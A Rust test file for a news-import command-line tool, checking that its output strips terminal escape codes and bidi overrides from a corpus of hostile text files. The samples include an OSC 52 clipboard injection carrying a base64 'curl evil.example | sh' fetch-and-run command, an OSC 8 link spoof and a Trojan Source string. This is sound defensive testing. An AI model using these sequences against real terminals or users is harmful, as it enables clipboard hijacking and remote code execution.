//! The hostile corpus: text written to attack a terminal or confuse a reader goes through
//! import, `show`, `show --json`, `list`, `search` and `extract`, and no ESC, BEL, C1 control
//! or bidi override comes out of any of them.

use assert_cmd::Command;
use std::path::{Path, PathBuf};

/// (file name, contents): each names the attack it carries.
fn hostile_corpus() -> Vec<(&'static str, String)> {
    let corpus = vec![
        ("osc52-clipboard.txt", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07".to_string()),
        ("osc8-link-spoof.txt", "\x1b]8;;https://evil.example\x1b\\https://bank.example\x1b]8;;\x1b\\".to_string()),
        ("title-set.txt", "\x1b]0;owned\x07\x1b]2;owned\x1b\\".to_string()),
        ("cursor-moves.txt", "\x1b[10;10H\x1b[2A\x1b[5C\x1b7\x1b8".to_string()),
        ("screen-clear.txt", "\x1b[2J\x1b[3J\x1bc".to_string()),
        ("c1-csi.txt", "\u{9b}31m\u{9b}2J\u{9d}0;t\u{9c}".to_string()),
        ("dcs-apc-pm.txt", "\x1bPq#0;2;0;0;0\x1b\\\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\".to_string()),
        ("bell-and-del.txt", "\x07\x07\x7f\x08\x0b\x0c".to_string()),
        ("trojan-source.txt", "access \u{202e}\u{2066}// check if admin\u{2069}\u{2066} is_admin".to_string()),
        ("combining-10000.txt", format!("Z{}", "\u{301}".repeat(10_000))),
        ("one-megabyte-line.txt", format!("Long line\n\n{}\n", "word ".repeat(200_000))),
        (
            "scripts.txt",
            "多言語のニュース 新闻 뉴스\n\nالأخبار العربية في النص. חדשות בעברית. हिंदी समाचार पाठ। Emoji 👍🏽 👩‍👩‍👧 🇯🇵.\n".to_string(),
        ),
    ];
    // Each file's name is in its text, so no two clean down to the same article.
    corpus
        .into_iter()
        .map(|(name, attack)| {
            let text = if attack.contains('\n') {
                format!("{attack}\n{name}\n")
            } else {
                format!("Hostile headline {name} {attack}\n\nA paragraph that carries {attack} in it.\n\nSecond paragraph.\n")
            };
            (name, text)
        })
        .collect()
}

fn write_corpus(dir: &Path) -> Vec<PathBuf> {
    hostile_corpus()
        .into_iter()
        .map(|(name, text)| {
            let p = dir.join(name);
            std::fs::write(&p, text).unwrap();
            p
        })
        .collect()
}

/// What must never appear in output: ESC, BEL, other C0 controls but newline, C1, DEL, and
/// the bidi embeddings, overrides and isolates.
fn assert_inert(what: &str, out: &[u8]) {
    let text = String::from_utf8_lossy(out);
    for c in text.chars() {
        let bad = (c.is_control() && c != '\n')
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c);
        assert!(!bad, "{what}: output carries {:?}", c);
    }
}

fn dateline(db: &Path) -> Command {
    let mut c = Command::cargo_bin("dateline").unwrap();
    c.env("DATELINE_DB", db);
    c
}

#[test]
fn no_output_carries_a_control_character() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("h.db");
    let files = write_corpus(dir.path());
    let mut import = dateline(&db);
    import.arg("import").arg("--json").args(&files);
    let out = import.output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_inert("import --json", &out.stdout);

    let list = dateline(&db).args(["list", "--json"]).output().unwrap();
    assert_inert("list --json", &list.stdout);
    let metas: Vec<serde_json::Value> = serde_json::from_slice(&list.stdout).unwrap();
    assert_eq!(metas.len(), files.len());
    for m in &metas {
        let id = m["id"].as_str().unwrap();
        for args in [
            vec!["show", id],
            vec!["show", "--json", id],
            vec!["entities", "--json", id],
        ] {
            let out = dateline(&db).args(&args).output().unwrap();
            assert!(out.status.success());
            assert_inert(&format!("{args:?}"), &out.stdout);
        }
    }
    for args in [
        vec!["list"],
        vec!["search", "paragraph"],
        vec!["search", "--json", "hostile"],
        vec!["stats"],
    ] {
        let out = dateline(&db).args(&args).output().unwrap();
        assert_inert(&format!("{args:?}"), &out.stdout);
        assert_inert(&format!("{args:?} stderr"), &out.stderr);
    }
    let mut extract = dateline(&db);
    extract.arg("extract").arg("--json").args(&files);
    let out = extract.output().unwrap();
    assert_inert("extract --json", &out.stdout);
}

#[test]
fn widths_survive_in_the_stored_text() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("w.db");
    let files = write_corpus(dir.path());
    let scripts = files.iter().find(|p| p.ends_with("scripts.txt")).unwrap();
    let out = dateline(&db)
        .args(["import", "--json"])
        .arg(scripts)
        .output()
        .unwrap();
    let line: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let shown = dateline(&db)
        .args(["show", "--json", line["id"].as_str().unwrap()])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&shown.stdout).unwrap();
    assert_eq!(v["title"], "多言語のニュース 新闻 뉴스");
    let body = v["blocks"][0]["text"].as_str().unwrap();
    // Joiners and skin-tone modifiers inside emoji stay; only controls go.
    assert!(body.contains("👩\u{200d}👩\u{200d}👧") && body.contains("👍🏽"));
}
